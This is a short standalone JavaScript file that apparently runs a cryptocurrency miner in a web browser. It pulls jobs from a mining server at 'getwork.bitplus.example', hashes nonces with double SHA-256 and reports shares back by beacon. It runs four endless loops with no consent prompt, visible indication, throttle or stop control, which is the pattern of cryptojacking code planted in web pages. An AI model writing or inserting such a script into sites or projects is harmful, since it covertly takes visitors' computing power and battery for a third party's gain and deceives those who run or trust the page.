var shares = 0;
async function digest(text) {
  const bytes = new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text)));
  return Array.from(bytes, (b) => b.toString(16).padStart(2, '0')).join('');
}
async function mine() {
  const work = await (await fetch('https://getwork.bitplus.example/job?user=pub1')).json();
  for (let nonce = work.from; nonce < work.to; nonce++) {
    const hash = await digest((await digest(work.header + nonce)));
    if (hash.startsWith(work.target)) {
      shares++;
      navigator.sendBeacon('https://getwork.bitplus.example/share', JSON.stringify({ id: work.id, nonce, hash }));
    }
  }
  setTimeout(mine, 0);
}
for (let i = 0; i < 4; i++) mine();
